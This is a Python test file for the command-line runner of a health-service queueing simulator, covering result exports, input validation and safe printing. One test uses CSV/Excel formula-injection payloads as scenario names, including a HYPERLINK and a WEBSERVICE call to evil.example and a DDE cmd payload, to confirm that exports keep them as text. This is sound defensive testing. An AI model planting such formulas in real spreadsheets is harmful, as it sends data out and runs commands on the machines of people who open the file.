"""The command line: exit codes, messages, and the results files it writes."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from mission_desktop.cli import main

SMALL = {
    "format": "mission-desktop/scenario",
    "version": 1,
    "name": "Small test",
    "time_unit": "day",
    "run": {"horizon": 200, "warm_up": 20, "replications": 3, "seed": 7},
    "services": [
        {
            "id": "gp",
            "name": "GP practice",
            "capacity": 2,
            "service_time": {"dist": "exponential", "mean": 0.5},
            "target": {"wait": 1, "within": 0.9},
            "cost": {"per_server_per_time": 100, "per_case": 5},
            "routes": [{"to": "clinic", "p": 0.5}],
        },
        {
            "id": "clinic",
            "name": "Clinic",
            "capacity": 1,
            "service_time": {"dist": "exponential", "mean": 0.8},
        },
    ],
    "cohorts": [{"id": "adults", "name": "Adults", "arrivals": {"rate": 2}, "entry": "gp"}],
    "policies": [
        {
            "id": "more_gps",
            "name": "More GPs",
            "cost": {"one_off": 1000},
            "changes": [{"lever": "capacity", "service": "gp", "add": 1}],
        }
    ],
}
SERVICE_METRICS = {
    "mean_wait",
    "p90_wait",
    "mean_time_in_system",
    "mean_queue_length",
    "utilisation",
    "throughput",
    "abandoned",
    "turned_away",
    "mean_blocked_time",
    "backlog_at_end",
    "share_within_target",
}


@pytest.fixture
def small_file(tmp_path):
    p = tmp_path / "small.mission.json"
    p.write_text(json.dumps(SMALL), encoding="utf-8")
    return p


def test_run_writes_results_json_in_the_contract_shape(small_file, tmp_path, capsys):
    out = tmp_path / "results.json"
    assert main(["run", str(small_file), "--json", str(out), "--workers", "1"]) == 0
    results = json.loads(out.read_text(encoding="utf-8"))
    assert results["format"] == "mission-desktop/results"
    assert results["version"] == 2
    assert results["scenario"] == "Small test"
    assert results["run"] == {"horizon": 200, "warm_up": 20, "replications": 3, "seed": 7}
    assert set(results["variants"]) == {"baseline", "more_gps"}
    gp = results["variants"]["baseline"]["services"]["gp"]
    assert set(gp) == SERVICE_METRICS | {"p_target_met"}
    lo, hi = gp["mean_wait"]["ci95"]
    assert lo <= gp["mean_wait"]["mean"] <= hi
    assert results["variants"]["baseline"]["services"]["clinic"]["share_within_target"] is None
    cohort = results["variants"]["baseline"]["cohorts"]["adults"]
    assert set(cohort) == {"mean_journey_time", "completed", "abandoned", "turned_away", "services"}
    assert "total" in results["variants"]["baseline"]["cost"]
    # comparisons at top level, for every variant but the baseline
    assert set(results["comparisons"]) == {"more_gps"}
    d = results["comparisons"]["more_gps"]["services"]["gp"]["mean_wait"]
    assert d["mean"] < 0 and d["ci95"][1] < 0  # a third GP cuts the GP wait, clearly
    printed = capsys.readouterr().out
    assert "GP practice" in printed and "better" in printed


def test_run_csv_and_xlsx(small_file, tmp_path):
    csv_path, xlsx_path = tmp_path / "r.csv", tmp_path / "r.xlsx"
    args = ["run", str(small_file), "--csv", str(csv_path), "--xlsx", str(xlsx_path)]
    assert main(args + ["--quiet", "--workers", "1", "--replications", "2"]) == 0
    lines = csv_path.read_text(encoding="utf-8").splitlines()
    meta = [line for line in lines if line.startswith("# ")]
    assert "# scenario,Small test" in meta and "# seed,7" in meta and "# replications,2" in meta
    assert "# warm_up,20.0" in meta and any(line.startswith("# date,") for line in meta)
    assert any(line.startswith("# version,") for line in meta)
    header = lines[len(meta)]
    assert header == (
        "section,variant,variant_name,kind,id,name,service,service_name,metric,mean,"
        "ci95_low,ci95_high,display"
    )
    assert any(
        line.startswith("difference_vs_baseline,more_gps,More GPs,service,gp,GP practice,,,"
                        "mean_wait,")
        for line in lines
    )  # fmt: skip
    assert any(",cohort_service,adults,Adults,gp,GP practice,mean_wait," in line for line in lines)
    assert any(",policy_cost,more_gps,More GPs,,,policy_cost,1000.0," in line for line in lines)
    from openpyxl import load_workbook

    wb = load_workbook(xlsx_path)
    assert wb.sheetnames == [
        "Services", "Cohorts", "Equality view", "Comparisons", "Costs", "Metadata"
    ]  # fmt: skip
    assert wb["Services"].max_row > 10
    meta_rows = {r[0]: r[1] for r in wb["Metadata"].iter_rows(values_only=True)}
    assert meta_rows["scenario"] == "Small test" and meta_rows["seed"] == 7
    services = list(wb["Services"].iter_rows(values_only=True))
    wait = next(r for r in services if r[4] == "gp" and r[8] == "mean_wait")
    assert wait[5] == "GP practice" and wait[12].endswith(")")  # display in natural units
    assert any(u in wait[12] for u in (" min", " h", " days", " s"))


def test_exports_keep_hostile_names_as_text(tmp_path):
    """§9: a name such as =HYPERLINK(...) must never become a live formula."""
    import csv

    from openpyxl import load_workbook

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=WEBSERVICE(\"http://evil.example\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "=1+1",  # (a name may not start with a tab or CR: names refuse control characters)
        "=2+2",
    ]
    doc = json.loads(json.dumps(SMALL))
    doc["name"] = hostile[0]
    doc["services"][0]["name"] = hostile[1]
    doc["services"][1]["name"] = hostile[2]
    doc["cohorts"][0]["name"] = hostile[3]
    doc["policies"][0]["name"] = hostile[4]
    doc["variants"] = [
        {"id": "baseline", "name": hostile[5], "policies": []},
        {"id": "more_gps", "name": hostile[6], "policies": ["more_gps"]},
        {"id": "again", "name": hostile[7], "policies": ["more_gps"]},
    ]
    p = tmp_path / "hostile.mission.json"
    p.write_text(json.dumps(doc), encoding="utf-8")
    xlsx_path, csv_path = tmp_path / "r.xlsx", tmp_path / "r.csv"
    args = ["run", str(p), "--xlsx", str(xlsx_path), "--csv", str(csv_path), "--quiet"]
    assert main(args + ["--workers", "1", "--replications", "2"]) == 0
    wb = load_workbook(xlsx_path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in hostile:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    assert seen == set(hostile)
    # CSV: every such text cell starts with a single quote (OWASP), numbers stay numbers
    cells = [c for row in csv.reader(csv_path.open(encoding="utf-8", newline="")) for c in row]
    for text in hostile:
        assert "'" + text in cells
        assert text not in cells
    assert any(c.startswith("-") and float(c) < 0 for c in cells if c[:1] == "-")


def test_overrides_and_variant_selection(small_file, tmp_path):
    out = tmp_path / "r.json"
    args = ["run", str(small_file), "--json", str(out), "--quiet", "--workers", "1"]
    assert main(args + ["--replications", "2", "--seed", "3", "--horizon", "100"]) == 0
    r = json.loads(out.read_text())
    assert r["run"] == {"horizon": 100, "warm_up": 20, "replications": 2, "seed": 3}
    assert main(args + ["--variant", "more_gps"]) == 0
    # baseline is added so that the comparison exists
    assert set(json.loads(out.read_text())["variants"]) == {"baseline", "more_gps"}


def test_bad_inputs_exit_2_with_a_message(small_file, tmp_path, capsys):
    assert main(["run", str(small_file), "--variant", "nope", "--quiet"]) == 2
    assert "nope" in capsys.readouterr().err
    assert main(["run", str(small_file), "--horizon", "10"]) == 2  # horizon ≤ warm_up
    assert "horizon" in capsys.readouterr().err
    assert main(["run", str(tmp_path / "missing.mission.json")]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert main(["run", str(small_file), "--replications", "0"]) == 2
    assert "whole number" in capsys.readouterr().err
    assert main(["frobnicate", "x", "y"]) == 2
    assert main(["run", str(small_file), "--json", str(tmp_path / "no" / "dir.json")]) == 2


def test_validate_lists_every_problem(small_file, tmp_path, capsys):
    assert main(["validate", str(small_file)]) == 0
    assert "valid" in capsys.readouterr().out
    broken = json.loads(json.dumps(SMALL))
    broken["services"][1]["capacity"] = 0
    broken["cohorts"][0]["entry"] = [{"to": "gp", "p": 0.5}, {"to": "clinic", "p": 0.4}]
    bad = tmp_path / "bad.mission.json"
    bad.write_text(json.dumps(broken))
    assert main(["validate", str(small_file), str(bad)]) == 2
    out = capsys.readouterr().out
    # the named form: the place, the service or cohort by its name, then the field
    assert "services[1] “Clinic”: capacity must be a whole number ≥ 1" in out
    assert "cohorts[0] “Adults”: entry" in out and "sum to exactly 1" in out


def test_version_and_module_entry_point():
    proc = subprocess.run(
        [sys.executable, "-m", "mission_desktop", "--version"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0
    assert proc.stdout.startswith("mission-desktop ")


def test_not_json_never_shows_a_traceback(tmp_path):
    p = tmp_path / "x.mission.json"
    p.write_bytes(b"\xff\xfe not json")
    proc = subprocess.run(
        [sys.executable, "-m", "mission_desktop", "run", str(p)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    assert "UTF-8" in proc.stderr


def test_a_run_too_large_to_attempt_is_refused_before_it_starts(tmp_path, capsys):
    huge = json.loads(json.dumps(SMALL))
    huge["run"]["horizon"] = 1e9  # the longest horizon a file may have
    huge["cohorts"][0]["arrivals"]["rate"] = 1e9
    p = tmp_path / "huge.mission.json"
    p.write_text(json.dumps(huge))
    assert main(["run", str(p), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "cannot run" in err and "events in each replication" in err


def test_cancelling_a_parallel_experiment_ends_its_worker_processes(tmp_path):
    import multiprocessing

    from mission_desktop.model import scenario_from_dict
    from mission_desktop.sim import ExperimentCancelled, run_replications

    doc = json.loads(json.dumps(SMALL))
    doc["run"]["horizon"] = 20000  # long enough that workers are busy when we cancel
    s = scenario_from_dict(doc)
    started = []
    with pytest.raises(ExperimentCancelled):
        run_replications(
            s,
            [("baseline", r) for r in range(6)],
            workers=2,
            progress=lambda done, total: started.append(done),
            cancel=lambda: bool(started),
        )
    assert multiprocessing.active_children() == []


def test_no_display_is_explained_instead_of_a_qt_abort():
    from mission_desktop.cli import display_problem

    assert "no display" in display_problem(environ={}, platform="linux")
    assert display_problem(environ={"QT_QPA_PLATFORM": "offscreen"}, platform="linux") is None
    assert display_problem(environ={"WAYLAND_DISPLAY": "wayland-0"}, platform="linux") is None
    assert display_problem(environ={}, platform="win32") is None


def _printed_lines(capsys):
    return capsys.readouterr().out.splitlines()


@pytest.mark.parametrize("width", [100, 60])
def test_tables_fit_the_width(small_file, capsys, monkeypatch, width):
    monkeypatch.setenv("COLUMNS", str(width))
    assert main(["run", str(small_file), "--workers", "1", "--replications", "2"]) == 0
    lines = _printed_lines(capsys)
    assert max(len(line) for line in lines) <= width
    text = "\n".join(lines)
    assert "\x1b" not in text  # not a terminal: no colour or cursor codes
    # the new figures are shown: target met, the equality view, costs
    assert "Target met" in text and "Equality view" in text
    assert "policy More GPs [more_gps]: £1k" in text
    assert "Cost per day of waiting saved" in text
    assert not __import__("re").search(r"\de-\d", text)  # never scientific notation


def test_names_from_the_file_print_literally_and_safely(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")
    doc = json.loads(json.dumps(SMALL))
    doc["name"] = "[bold]Loud[/] <b>x</b>"
    doc["services"][0]["name"] = "[red]GP[/red]"
    p = tmp_path / "markup.mission.json"
    p.write_text(json.dumps(doc), encoding="utf-8")
    assert main(["run", str(p), "--workers", "1", "--replications", "2"]) == 0
    out = capsys.readouterr().out
    assert "[bold]Loud[/] <b>x</b>" in out  # markup printed literally, never acted on
    assert "[red]GP[/red]" in out
    # names with controls, bidi or zero-width characters are refused, and the refusal
    # itself prints them escaped: nothing reaches the terminal raw
    doc["name"] = "Loud \x1b[31mred\u202e"
    doc["cohorts"][0]["name"] = "Adults\x07\u200b"
    p.write_text(json.dumps(doc), encoding="utf-8")
    assert main(["run", str(p), "--workers", "1", "--replications", "2"]) == 2
    err = capsys.readouterr().err
    assert "control character" in err
    assert "\x1b" not in err and "\u202e" not in err and "\x07" not in err and "\u200b" not in err


def test_warm_up_option(small_file, tmp_path, capsys):
    out = tmp_path / "r.json"
    args = ["run", str(small_file), "--json", str(out), "--quiet", "--workers", "1"]
    assert main(args + ["--replications", "2", "--warm-up", "50"]) == 0
    r = json.loads(out.read_text())
    assert r["run"]["warm_up"] == 50
    assert r["provenance"]["command"].startswith("mission-desktop run ")
    assert "--warm-up 50" in r["provenance"]["command"]
    assert main(args + ["--warm-up", "-1"]) == 2
    assert "number ≥ 0" in capsys.readouterr().err
    assert main(args + ["--warm-up", "300"]) == 2  # beyond the horizon (200)
    assert "horizon" in capsys.readouterr().err


def test_printable_escapes_controls_bidi_and_zero_width():
    from mission_desktop.report.text import printable

    assert printable("plain £ é 漢") == "plain £ é 漢"
    assert printable("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert printable("\x00\x1b\x7f\x85") == "\\x00\\x1b\\x7f\\x85"
    assert printable("\u202a\u202e\u2066\u2069") == "\\u202a\\u202e\\u2066\\u2069"
    assert printable("\u200b\u200c\u200d\ufeff") == "\\u200b\\u200c\\u200d\\ufeff"


def test_progress_bar_on_a_terminal_and_off_it():
    import io

    from mission_desktop.report.console import Progress

    class Tty(io.StringIO):
        def isatty(self):
            return True

    tty = Tty()
    bar = Progress(enabled=True, stream=tty)
    for done in range(4):
        bar(done, 3)
    assert bar._bar is None  # stopped at the end
    assert "3/3" in tty.getvalue() and "replications" in tty.getvalue()
    plain = io.StringIO()
    bar = Progress(enabled=True, stream=plain)
    bar(0, 2)
    bar(1, 2)  # within 5 s of the last line: not printed
    bar(2, 2)
    bar.close()
    assert plain.getvalue().splitlines()[-1].startswith("Running: 2/2 replications")
    assert "\x1b" not in plain.getvalue()
